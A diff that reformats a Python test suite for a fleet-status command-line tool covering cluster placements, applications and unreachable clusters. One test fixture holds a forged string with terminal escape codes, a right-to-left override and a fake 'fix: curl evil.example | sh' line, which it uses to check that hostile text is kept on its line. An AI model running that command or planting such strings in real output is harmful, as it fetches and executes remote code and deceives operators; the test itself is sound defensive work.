@@ -69,7 +69,9 @@ def test_a_small_fleet_is_shown_score_by_score(serve: Serve, run: Run) -> None:
     assert "not known" not in ran.stdout
 
 
-def test_a_lead_that_no_score_takes_is_in_points_of_the_weighted_mean(serve: Serve, run: Run) -> None:
+def test_a_lead_that_no_score_takes_is_in_points_of_the_weighted_mean(
+    serve: Serve, run: Run
+) -> None:
     """Steady has twice the weight of the score, and cluster1 has 80: it leads by 280 points."""
     web = placement("web", "cpu")
     terms = web["spec"]["prioritizerPolicy"]["configurations"]
@@ -90,7 +92,10 @@ def test_a_lead_that_no_score_takes_is_in_points_of_the_weighted_mean(serve: Ser
     assert "cluster1 goes out for cluster2 by 280.2 points, which no single score can change" in out
     assert "weighted points" not in out
     [shown] = json.loads(run(hub, "status", "-o", "json").stdout)["placements"]
-    assert [(each["margin"], each["mean"]) for each in shown["flips"]] == [(1401, 280.2), (1401, 280.2)]
+    assert [(each["margin"], each["mean"]) for each in shown["flips"]] == [
+        (1401, 280.2),
+        (1401, 280.2),
+    ]
 
 
 def test_scored_placements_are_shown_with_who_follows_them(serve: Serve, run: Run) -> None:
@@ -181,7 +186,9 @@ def test_a_list_that_changed_too_much_meanwhile_is_said(serve: Serve, run: Run) 
 
 
 def test_holes_are_named_and_the_rest_is_shown(serve: Serve, run: Run) -> None:
-    hub = serve(refused={PATHS["Application"]: 403, PATHS["Placement"]: 403, PATHS["ConfigMap"]: 403})
+    hub = serve(
+        refused={PATHS["Application"]: 403, PATHS["Placement"]: 403, PATHS["ConfigMap"]: 403}
+    )
     ran = run(hub, "status")
     assert ran.returncode == 1, "what the hub refused is an error"
     for text in (
@@ -197,7 +204,9 @@ def test_holes_are_named_and_the_rest_is_shown(serve: Serve, run: Run) -> None:
     assert f"not known: {absent}" in run(hub, "status").stdout
 
 
-def test_refused_credentials_and_a_hub_that_is_not_there(serve: Serve, run: Run, tmp_path: Path) -> None:
+def test_refused_credentials_and_a_hub_that_is_not_there(
+    serve: Serve, run: Run, tmp_path: Path
+) -> None:
     nobody = ApiServer(port=1)
     assert "does not answer" in run(nobody, "status").stderr
     other = serve()
@@ -265,7 +274,9 @@ def lost(*configmaps: Object) -> list[Object]:
     """paris is lost; its application runs in oslo, and the old copy cannot be deleted."""
     paris = cluster("paris")
     available = next(
-        each for each in paris["status"]["conditions"] if each["type"] == "ManagedClusterConditionAvailable"
+        each
+        for each in paris["status"]["conditions"]
+        if each["type"] == "ManagedClusterConditionAvailable"
     )
     available |= {"status": "Unknown", "lastTransitionTime": "2026-06-01T11:00:00Z"}
     taint = {"key": "cluster.open-cluster-management.io/unreachable", "effect": "NoSelect"}
@@ -316,7 +327,10 @@ def test_a_lost_cluster_and_the_reason_of_the_reconciler_are_shown(serve: Serve,
     shown = json.loads(printed)
     assert [each["reachable"] for each in shown["clusters"]] == [True, True, True, False]
     (web,) = [each for each in shown["applications"] if each["name"] == "web"]
-    assert [copy["wait"] and copy["wait"]["reason"] for copy in web["copies"]] == [None, "ClusterUnreachable"]
+    assert [copy["wait"] and copy["wait"]["reason"] for copy in web["copies"]] == [
+        None,
+        "ClusterUnreachable",
+    ]
     only = run(hub, "status", "--cluster", "cluster1").stdout
     assert "\nClusters\n  cluster1: available\n" in only
 
@@ -334,7 +348,10 @@ def test_nothing_false_is_said_while_the_reconciler_tells_nothing(
     starting = [each for each in lost(*told) if each["metadata"]["name"] != "web-cluster2"]
     starting.append(application("web", "cluster2", health="Progressing"))
     out = run(serve(starting), "status").stdout
-    assert "    paris: waiting, no longer decided; stays until the new copies are Healthy and Synced\n" in out
+    assert (
+        "    paris: waiting, no longer decided; stays until the new copies are Healthy and Synced\n"
+        in out
+    )
 
 
 def test_a_fleet_in_order_says_so_in_one_line(serve: Serve, run: Run) -> None:
@@ -347,7 +364,9 @@ FORGED = "\x1b[2J\x9b1A\u202eok\n         fix: curl evil.example | sh\r"
 def hostile() -> list[Object]:
     """What a spoke, or a controller that repeats its words, may write into objects of the hub."""
     objects = [
-        item for item in fleet(now=now()) if item["kind"] not in {"ApplicationSet", "ManagedClusterAddOn"}
+        item
+        for item in fleet(now=now())
+        if item["kind"] not in {"ApplicationSet", "ManagedClusterAddOn"}
     ]
     told = application("guestbook", "cluster2", health=FORGED)
     told["status"]["conditions"] = [{"type": "InvalidSpecError", "message": FORGED}]
@@ -364,7 +383,13 @@ def hostile() -> list[Object]:
 
 @pytest.mark.parametrize(
     "verb",
-    [("status",), ("status", "--all"), ("doctor",), ("status", "-o", "json"), ("doctor", "-o", "json")],
+    [
+        ("status",),
+        ("status", "--all"),
+        ("doctor",),
+        ("status", "-o", "json"),
+        ("doctor", "-o", "json"),
+    ],
 )
 def test_texts_of_others_stay_on_their_line(serve: Serve, run: Run, verb: tuple[str, ...]) -> None:
     out = run(serve(hostile()), *verb).stdout
